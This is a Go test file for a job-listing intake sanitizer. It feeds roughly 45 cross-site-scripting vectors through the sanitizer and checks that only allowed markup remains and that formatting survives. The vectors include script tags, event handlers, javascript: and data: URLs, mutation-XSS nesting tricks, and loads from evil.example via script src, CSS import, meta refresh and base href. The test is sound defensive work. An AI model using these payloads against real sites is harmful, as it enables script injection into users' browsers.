package intake_test

import (
	"fmt"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"verv/internal/job/intake"
)

var vectors = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`, `<a href="jAvAsCrIpT&colon;alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="https://a.example" onmouseover="alert(1)">x</a>`,
	`<a href="https://a.example/&quot;onclick=alert(1)//">x</a>`, `<a href='https://a.example/"><script>alert(1)</script>'>x</a>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="x.swf"></object>`, `<embed src=x>`,
	`<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">x</button></form>`, `<body onload=alert(1)>`,
	`<style>@import 'https://evil.example/x.css';</style>`, `<p style="background:url(javascript:alert(1))">x</p>`, `<link rel=stylesheet href=https://evil.example>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href="https://evil.example/">`, `<details open ontoggle=alert(1)>x</details>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`, `<!--><script>alert(1)</script-->`,
	`<![CDATA[<script>alert(1)</script>]]>`, `<template><script>alert(1)</script></template>`, `<video><source onerror=alert(1)></video>`,
	`<p><script<b>>alert(1)</script</b>></p>`, `<<script>alert(1)//<</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<xss style="x:expression(alert(1))">x</xss>`,
	`<a href="http://a.example" target=_blank rel=opener>x</a>`, `<p id=x name=y class=z data-x=1>x</p>`, `<isindex action=javascript:alert(1)>`,
	`&lt;p&gt;&lt;script&gt;alert(1)&lt;/script&gt;`, `<marquee onstart=alert(1)>x</marquee>`, "<img \x0bsrc=x onerror=alert(1)>", `<plaintext><script>alert(1)`,
}

var allowed = map[string]bool{"p": true, "br": true, "ul": true, "ol": true, "li": true, "strong": true, "em": true, "h2": true, "h3": true, "a": true}

// sound walks markup the way a browser reads it and reports the first thing that is not allowed.
func sound(markup string) error {
	nodes, err := html.ParseFragment(strings.NewReader(markup), &html.Node{Type: html.ElementNode, Data: "body", DataAtom: 0x2804})
	if err != nil {
		return err
	}
	var walk func(*html.Node) error
	walk = func(n *html.Node) error {
		switch n.Type {
		case html.CommentNode, html.DoctypeNode:
			return fmt.Errorf("comment or doctype")
		case html.ElementNode:
			if !allowed[n.Data] || n.Namespace != "" {
				return fmt.Errorf("element %s", n.Data)
			}
			for _, a := range n.Attr {
				ok := n.Data == "a" && (a.Key == "rel" && a.Val == "nofollow" ||
					a.Key == "href" && (strings.HasPrefix(a.Val, "https://") || strings.HasPrefix(a.Val, "http://") || strings.HasPrefix(a.Val, "mailto:")))
				if !ok {
					return fmt.Errorf("attribute %s=%q on %s", a.Key, a.Val, n.Data)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			if err := walk(c); err != nil {
				return err
			}
		}
		return nil
	}
	for _, n := range nodes {
		if err := walk(n); err != nil {
			return err
		}
	}
	return nil
}

func TestHostileMarkupIsCleaned(t *testing.T) {
	if sound(vectors[2]) == nil || sound(vectors[7]) == nil {
		t.Fatal("the judge finds nothing")
	}
	for _, v := range vectors {
		out := read(t, one(fmt.Sprintf(`"description":%s`, quote("<p>Trygg tekst</p>"+v)), fmt.Sprintf(`"title":%s`, quote("Kokk "+v))), intake.Options{})
		if len(out) != 1 || out[0].key != "" {
			t.Errorf("%s: refused as %s", v, out[0].key)
			continue
		}
		r := out[0].rec
		if err := sound(r.Description); err != nil {
			t.Errorf("%s\nleft %s in %s", v, err, r.Description)
		}
		if !strings.HasPrefix(r.Plain, "Trygg tekst") {
			t.Errorf("%s: the text around it was lost: %q", v, r.Plain)
		}
	}
}

func quote(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\x0b", `\u000b`)
	return `"` + r.Replace(s) + `"`
}

func TestMarkupKeepsItsMeaning(t *testing.T) {
	for _, c := range []struct{ in, want, plain string }{
		{`<div>En</div><div>To</div>`, `<p>En</p><p>To</p>`, "En\n\nTo"},
		{`<h1>Om</h1>Tekst <b>tung <i>og skrå</i></b>!`, `<h2>Om</h2><p>Tekst <strong>tung <em>og skrå</em></strong>!</p>`, "Om\n\nTekst tung og skrå!"},
		{`<ul><li>a<ul><li>b</li></ul></li><li><p>c</p></li></ul>`, `<ul><li>a</li><li>b</li><li>c</li></ul>`, "- a\n- b\n- c"},
		{`<b><p>a</p><p>b</p></b>`, `<p><strong>a</strong></p><p><strong>b</strong></p>`, "a\n\nb"},
		{`<li>løs</li>`, `<ul><li>løs</li></ul>`, "- løs"},
		{`<table><tr><td>Lønn</td><td>500</td></tr></table>`, `<p>Lønn 500</p>`, "Lønn 500"},
		{`<a href="mailto:jobb@example.org">skriv</a>`, `<p><a href="mailto:jobb@example.org" rel="nofollow">skriv</a></p>`, "skriv"},
		{`<a href="/her">her</a>`, `<p>her</p>`, "her"},
		{"linje 1\nlinje 2", `<p>linje 1<br>linje 2</p>`, "linje 1\nlinje 2"},
		{`Du &amp; jeg, 5 &lt; 6`, `<p>Du &amp; jeg, 5 &lt; 6</p>`, "Du & jeg, 5 < 6"},
		{`<p>a<br><br>b</p>`, `<p>a<br>b</p>`, "a\nb"},
	} {
		r := read(t, one(`"description":`+strings.ReplaceAll(quote(c.in), "\n", `\n`)), intake.Options{})[0].rec
		if r.Description != c.want || r.Plain != c.plain {
			t.Errorf("%s\n got %s | %q\nwant %s | %q", c.in, r.Description, r.Plain, c.want, c.plain)
		}
	}
}
